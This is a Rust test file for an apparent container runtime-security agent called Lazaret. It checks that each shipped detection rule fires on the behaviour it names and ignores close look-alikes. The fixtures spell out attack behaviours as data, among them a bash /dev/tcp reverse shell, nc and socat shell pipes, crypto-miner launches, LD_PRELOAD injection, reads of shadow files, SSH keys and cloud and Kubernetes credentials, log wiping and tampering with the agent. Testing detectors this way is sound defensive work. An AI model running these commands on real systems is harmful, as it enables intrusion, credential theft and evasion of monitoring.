//! The rules that Lazaret brings: what breaks each, and what is so like it but does not.

use std::collections::BTreeSet;

use lazaret_model::{Behaviour, Fact, FileOperation, FileOrigin, Gain, KernelOperation, Mounting, RawSocket};
use lazaret_profile::rules::{Rules, RulesError, SHIPPED, Whose};

use crate::facts::{PERL, access, by, connect, exec, execution, file, kernel, listen, lookup, system_call};

fn variable(text: &str, gains: bool) -> Behaviour {
    let mut execution = execution(&["/usr/bin/su"]);
    execution.loader_environment.push(text.to_owned());
    execution.gains = gains.then_some(Gain { uid: 0, gid: 0, capabilities: 0 });
    by(PERL, Fact::Exec(execution))
}

fn shell(socket_stdio: bool) -> Behaviour {
    let mut execution = execution(&["/usr/bin/dash", "-i"]);
    execution.arguments[0] = "-sh".to_owned();
    execution.socket_stdio = socket_stdio;
    by(PERL, Fact::Exec(execution))
}

fn of_origin(origin: FileOrigin) -> Behaviour {
    let mut execution = execution(&["/memfd:x"]);
    execution.origin = origin;
    by(PERL, Fact::Exec(execution))
}

fn linked(path: &str, other: &str, operation: FileOperation) -> Behaviour {
    let mut access = access(path, operation);
    access.other = Some(other.to_owned());
    by(PERL, Fact::File(access))
}

fn socket(family: u16) -> Behaviour {
    by(PERL, Fact::RawSocket(RawSocket { family, protocol: 3 }))
}

/// Rule, what breaks it, what does not break it.
fn cases() -> Vec<(&'static str, Vec<Behaviour>, Vec<Behaviour>)> {
    use FileOperation::{
        Append, Attributes, Connect, Create, Delete, Device, Link, Read, Rename, SetUserId, Symlink,
        Truncate, Write,
    };
    let f = |path: &str, operation| file(PERL, path, operation);
    let mount =
        by(PERL, Fact::Mount(Mounting { source: "a".into(), target: "/b".into(), kind: "bind".into() }));
    vec![
        (
            "core-pattern",
            vec![f("/proc/sys/kernel/core_pattern", Append)],
            vec![f("/proc/sys/kernel/core_pattern", Read)],
        ),
        (
            "release-agent",
            vec![f("/tmp/cg/release_agent", Create)],
            vec![f("/tmp/cg/release_agents", Create)],
        ),
        ("runtime-socket", vec![f("/run/fake/docker.sock", Connect)], vec![f("/run/app.sock", Connect)]),
        ("host-root", vec![f("/proc/1/root/etc/shadow", Read)], vec![f("/proc/1/rootless", Read)]),
        ("leaked-descriptor", vec![f("/proc/self/fd/7/etc/passwd", Read)], vec![f("/proc/self/fd/7", Read)]),
        ("file-handle", vec![system_call("open_by_handle_at")], vec![system_call("openat")]),
        ("runtime-overwritten", vec![f("/usr/bin/runc", Write)], vec![f("/usr/bin/runc", Read)]),
        ("device-node", vec![f("/tmp/sda", Device)], vec![f("/tmp/sda", Create)]),
        (
            "disk-device",
            vec![f("/dev/sda1", Read), f("/dev/nvme0n1", Write)],
            vec![f("/dev/null", Write), f("/dev/sd/x", Read)],
        ),
        ("mount", vec![mount], vec![f("/b", Create)]),
        (
            "enter-namespace",
            vec![kernel(KernelOperation::EnterNamespace)],
            vec![kernel(KernelOperation::Trace)],
        ),
        (
            "user-namespace",
            vec![kernel(KernelOperation::UserNamespace)],
            vec![kernel(KernelOperation::Namespace)],
        ),
        ("kernel-module", vec![kernel(KernelOperation::LoadModule)], vec![kernel(KernelOperation::Bpf)]),
        ("bpf", vec![kernel(KernelOperation::Bpf)], vec![kernel(KernelOperation::LoadModule)]),
        ("io-uring", vec![kernel(KernelOperation::IoUring)], vec![kernel(KernelOperation::Bpf)]),
        ("trace", vec![kernel(KernelOperation::Trace)], vec![kernel(KernelOperation::WrittenCode)]),
        ("written-code", vec![kernel(KernelOperation::WrittenCode)], vec![kernel(KernelOperation::Trace)]),
        (
            "password-hashes",
            vec![f("/etc/shadow", Read), linked("/tmp/hl", "/etc/shadow", Link)],
            vec![f("/etc/passwd", Read)],
        ),
        (
            "private-keys",
            vec![f("/root/.ssh/id_rsa", Read), f("/root/.aws/credentials", Read)],
            vec![f("/root/.ssh/id_rsa.pub", Read)],
        ),
        (
            "service-account",
            vec![
                f("/var/run/secrets/kubernetes.io/serviceaccount/token", Read),
                linked("/run/secrets/kubernetes.io/serviceaccount/token", "/tmp/x", Rename),
            ],
            vec![f("/run/secrets/db", Read)],
        ),
        (
            "process-memory",
            vec![f("/proc/1/environ", Read), f("/proc/7/mem", Read)],
            vec![f("/proc/1/status", Read), f("/proc/7/mem", Write)],
        ),
        (
            "memory-written",
            vec![f("/proc/7/mem", Write), f("/proc/7/task/8/mem", Append)],
            vec![f("/proc/7/mem", Read), f("/proc/7/oom_score_adj", Write)],
        ),
        (
            "instance-metadata",
            vec![
                connect(PERL, "169.254.169.254", 80, None),
                connect(PERL, "::ffff:169.254.169.254", 80, None),
            ],
            vec![connect(PERL, "169.254.169.253", 80, None)],
        ),
        (
            "accounts",
            vec![f("/etc/passwd", Append), linked("/etc/nshadow", "/etc/shadow", Rename)],
            vec![f("/etc/passwd", Read)],
        ),
        (
            "authorized-keys",
            vec![f("/root/.ssh/authorized_keys", Append)],
            vec![f("/root/.ssh/authorized_keys", Read)],
        ),
        ("scheduled-tasks", vec![f("/etc/cron.d/rt", Create)], vec![f("/etc/cron.d", Attributes)]),
        (
            "shell-startup",
            vec![f("/root/.bashrc", Append), f("/etc/profile.d/x.sh", Create)],
            vec![f("/root/bashrc", Append)],
        ),
        ("preload", vec![f("/etc/ld.so.preload", Create)], vec![f("/etc/ld.so.cache", Write)]),
        (
            "preload-variable",
            vec![variable("LD_PRELOAD=/tmp/p.so", false)],
            vec![variable("LD_LIBRARY_PATH=/x", false)],
        ),
        (
            "loader-tunables",
            vec![variable("GLIBC_TUNABLES=a=b", true)],
            vec![variable("GLIBC_TUNABLES=a=b", false)],
        ),
        ("set-user-id-made", vec![f("/tmp/rs", SetUserId)], vec![f("/tmp/rs", Attributes)]),
        (
            "program-changed",
            vec![f("/usr/bin/tac", Write), f("/usr/bin/tac", Attributes)],
            vec![f("/usr/share/x", Write), f("/usr/bin/tac", Read)],
        ),
        ("fileless", vec![of_origin(FileOrigin::Nameless)], vec![of_origin(FileOrigin::Upper)]),
        ("reverse-shell", vec![shell(true)], vec![shell(false)]),
        (
            "shell-network-device",
            vec![exec(PERL, &["/usr/bin/bash", "-c", "bash -i >& /dev/tcp/198.51.100.2/4444 0>&1"])],
            vec![exec(PERL, &["/usr/bin/bash", "-c", "ls /dev"])],
        ),
        (
            "network-pipe",
            vec![
                exec(PERL, &["/usr/bin/nc", "-e", "/bin/sh", "h"]),
                exec(PERL, &["/usr/bin/socat", "TCP:h:1", "EXEC:sh"]),
            ],
            vec![exec(PERL, &["/usr/bin/nc", "-z", "h", "1"])],
        ),
        ("miner", vec![exec(PERL, &["/tmp/xmrig"])], vec![exec(PERL, &["/tmp/xmrigs"])]),
        (
            "mining-pool",
            vec![
                exec(PERL, &["/tmp/a", "-o", "stratum+tcp://h:3333"]),
                exec(PERL, &["/tmp/a", "--donate-level=1"]),
            ],
            vec![exec(PERL, &["/tmp/a", "--donate-levels"])],
        ),
        ("mining-name", vec![lookup("pool.minexmr.com")], vec![lookup("minexmr.com.example")]),
        (
            "package-manager",
            vec![exec(PERL, &["/usr/bin/apt-get", "--version"])],
            vec![exec(PERL, &["/usr/bin/apt-key"])],
        ),
        ("raw-packets", vec![socket(17)], vec![socket(2)]),
        (
            "logs-cleared",
            vec![
                f("/var/log/app/app.log", Truncate),
                f("/var/log/app/app.log", Delete),
                linked("/var/log/app/app.log", "/tmp/x", Rename),
                linked("/tmp/x", "/var/log/app/app.log", Rename),
            ],
            vec![f("/var/log/app/app.log", Append)],
        ),
        (
            "history-removed",
            vec![f("/root/.bash_history", Delete), linked("/root/.bash_history", "/dev/null", Symlink)],
            vec![f("/root/.bash_history", Append)],
        ),
        (
            "agent-tampering",
            vec![f("/run/lazaret/agent.sock", Connect), f("/usr/bin/lazaret-agent", Delete)],
            vec![f("/run/lazarets", Write)],
        ),
        (
            "agent-debugged",
            vec![exec(PERL, &["/usr/bin/pkill", "lazaret-agent"])],
            vec![exec(PERL, &["/usr/bin/pkill", "app"])],
        ),
    ]
}

#[test]
fn every_rule_is_broken_by_what_it_names_and_by_nothing_like_it() {
    let rules = Rules::shipped();
    for (id, breaking, innocent) in cases() {
        let rule = rules.iter().find(|rule| rule.id == id).unwrap_or_else(|| panic!("no rule {id}"));
        for behaviour in &breaking {
            assert!(rule.is_broken_by(behaviour), "{id}: {behaviour:?}");
        }
        for behaviour in &innocent {
            assert!(!rule.is_broken_by(behaviour), "{id}: {behaviour:?}");
        }
        let named = rules.broken(&breaking[0], Whose::Admitted { named: true }).any(|broken| broken.id == id);
        assert_eq!(named, !rule.profile_may_allow, "{id}");
        let nobodys = rules.broken(&breaking[0], Whose::Nobodys).any(|broken| broken.id == id);
        assert_eq!(nobodys, !rule.usual_in_builds, "{id}");
    }
    let tested: BTreeSet<_> = cases().iter().map(|(id, ..)| (*id).to_owned()).collect();
    let shipped: BTreeSet<_> = rules.iter().map(|rule| rule.id.clone()).collect();
    assert_eq!(tested, shipped);
}

#[test]
fn what_programs_ask_for_in_vain_all_day_is_no_attempt() {
    let attempted = |path, operation| {
        let whose = Whose::Admitted { named: false };
        Rules::shipped().attempted(&file(PERL, path, operation), whose).next().is_some()
    };
    assert!(attempted("/proc/sys/kernel/core_pattern", FileOperation::Write));
    assert!(attempted("/etc/shadow", FileOperation::Read));
    assert!(attempted("/run/docker.sock", FileOperation::Connect));
    for (path, operation) in [
        ("/usr/lib/python3/__pycache__/os.pyc", FileOperation::Create),
        ("/root/.netrc", FileOperation::Read),
        ("/proc/7/environ", FileOperation::Read),
        ("/var/log/app.log", FileOperation::Truncate),
        ("/root/.bashrc", FileOperation::Append),
        ("/root/.ssh/known_hosts", FileOperation::Append),
    ] {
        let whose = Whose::Admitted { named: false };
        let behaviour = file(PERL, path, operation);
        assert!(Rules::shipped().broken(&behaviour, whose).next().is_some(), "{path}: done, it matters");
        assert!(!attempted(path, operation), "{path}");
    }
}

#[test]
fn normal_work_breaks_no_rule() {
    let rules = Rules::shipped();
    for behaviour in
        [crate::shop::start(), crate::shop::request(1), crate::shop::stop(), vec![listen(PERL, 80)]].concat()
    {
        assert_eq!(
            rules.broken(&behaviour, Whose::Admitted { named: false }).map(|rule| &rule.id).next(),
            None,
            "{behaviour:?}"
        );
    }
}

#[test]
fn mistakes_in_rules_are_told() {
    assert_eq!(Rules::parse(SHIPPED).as_ref(), Ok(Rules::shipped()));
    assert!(Rules::shipped().iter().all(|rule| !rule.attack.is_empty() && !rule.title.is_empty()));
    let rule = |more: &str| {
        format!("- id: x\n  title: t\n  category: file.write\n  severity: high\n  attack: [T1611]\n{more}")
    };
    assert!(Rules::parse(&rule("  mount: {}\n")).is_ok());
    for (text, words) in [
        (rule(""), "names one kind of fact"),
        (rule("  mount: {}\n  kernel: [bpf]\n"), "names one kind of fact"),
        (rule("  kernel: [bfp]\n"), "unknown operation `bfp`"),
        (rule("  file: {operations: [write], paths: [\"/a/**/b\"]}\n"), "at the end"),
        (rule("  mount: {}\n").replace("T1611", "1611"), "technique"),
        (rule("  mount: {}\n").replace("file.write", "file.wrote"), "unknown category"),
        (rule("  mount: {}\n").replace("id: x", "id: X"), "lower-case"),
        (rule("  connect: {networks: [\"name:a\"]}\n"), "addresses"),
        (format!("{0}{0}", rule("  mount: {}\n")), "twice"),
        (rule("  mounts: {}\n"), "mounts"),
        (rule("  system-call: [open_sesame]\n"), "`open_sesame` is no system call"),
        (rule("  attempts: true\n  mount: {}\n"), "attempts are told of files"),
    ] {
        let error = Rules::parse(&text).expect_err(&text).to_string();
        assert!(error.contains(words), "{text}: {error}");
    }
    assert!(matches!(Rules::parse(&" ".repeat(1 << 20)), Err(RulesError::Large(_))));
}
